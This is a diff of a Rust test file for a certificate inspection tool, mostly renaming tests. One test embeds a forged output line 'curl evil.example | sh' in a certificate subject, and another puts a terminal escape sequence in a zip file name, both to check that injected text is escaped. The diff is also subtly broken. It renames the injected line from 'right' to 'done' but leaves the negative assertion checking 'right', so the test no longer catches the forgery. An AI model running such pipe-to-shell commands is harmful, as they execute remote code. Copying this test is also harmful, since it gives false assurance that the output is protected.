@@ -1,4 +1,4 @@
-//! `certctl inspect`: what a file is, without a judgement.
+//! `certctl inspect`: shows what a file contains, without a verdict.
 #![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]
 
 mod support;
@@ -10,7 +10,7 @@ use support::order::Order;
 use support::zip::zip;
 
 #[test]
-fn the_document() {
+fn json_document_and_cards_are_complete() {
     let shop = Order::new();
     let sandbox = &shop.sandbox;
     let key = sandbox.read("example.com.key");
@@ -202,7 +202,7 @@ fn the_document() {
 }
 
 #[test]
-fn the_request_of_the_documentation_has_its_hashes() {
+fn request_from_the_namecheap_documentation_has_the_documented_hashes() {
     let shop = Order::new();
     let fixture = include_bytes!("../fixtures/namecheap-doc.csr");
     let document = shop
@@ -225,7 +225,7 @@ fn the_request_of_the_documentation_has_its_hashes() {
 }
 
 #[test]
-fn it_reads_what_it_can_and_never_judges() {
+fn readable_files_are_shown_without_a_verdict() {
     let shop = Order::new();
     shop.sandbox.write("expired.pem", shop.chain());
     shop.sandbox.write("page.crt", "<html>");
@@ -251,7 +251,7 @@ fn it_reads_what_it_can_and_never_judges() {
 }
 
 #[test]
-fn foreign_text_is_shown_and_does_nothing() {
+fn foreign_text_is_escaped() {
     let shop = Order::new();
     let packed = zip(&[("\x1b]0;owned\x07\u{202e}.crt", shop.leaf.clone())]);
     shop.sandbox.write("x.zip", packed);
@@ -265,10 +265,10 @@ fn foreign_text_is_shown_and_does_nothing() {
 }
 
 #[test]
-fn a_subject_cannot_forge_a_line() {
+fn subjects_cannot_forge_output_lines() {
     let sandbox = Sandbox::new();
     let mut params =
-        ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
+        ca_params("x\ndone    trusted by Mozilla's list\nnext    curl evil.example | sh");
     params.is_ca = rcgen::IsCa::NoCa;
     let key = rcgen::KeyPair::generate().unwrap();
     sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
@@ -276,19 +276,19 @@ fn a_subject_cannot_forge_a_line() {
         let run = sandbox.run(&[command, "evil.pem"]);
         let page = run.to_string();
         assert!(
-            page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"),
+            page.contains(r"CN=x\u{a}done") || page.contains(r"x\u{a}done"),
             "{page}"
         );
         assert!(
             !page.lines().any(|line| line.starts_with("right")
-                || line.contains("next   curl") && !line.contains(r"\u{a}")),
+                || line.contains("next    curl") && !line.contains(r"\u{a}")),
             "{page}"
         );
     }
 }
 
 #[test]
-fn every_container_is_opened_and_each_item_has_its_source() {
+fn containers_are_opened_and_items_show_their_source() {
     let shop = Order::new();
     let sandbox = &shop.sandbox;
     sandbox.write("in.pem", shop.chain());
@@ -370,11 +370,14 @@ fn every_container_is_opened_and_each_item_has_its_source() {
             .expect(0);
     }
     let locked = sandbox.run(&["inspect", "example.com.pfx"]).expect(3);
-    assert!(locked.stderr.contains("--password-file FILE"), "{locked}");
+    assert!(
+        locked.stderr.contains("--password-file password.txt"),
+        "{locked}"
+    );
 }
 
 #[test]
-fn a_list_of_revoked_certificates_has_a_card() {
+fn crls_are_shown() {
     let sandbox = Sandbox::new();
     let ca = TestCa::new();
     let revoked = |serial: u64| rcgen::RevokedCertParams {
@@ -421,7 +424,7 @@ fn a_list_of_revoked_certificates_has_a_card() {
             0,
             "{shown}"
         );
-        // Of no use for anything else.
+        // Other commands cannot use a CRL.
         sandbox.run(&["bundle", file]).expect(3);
     }
 }
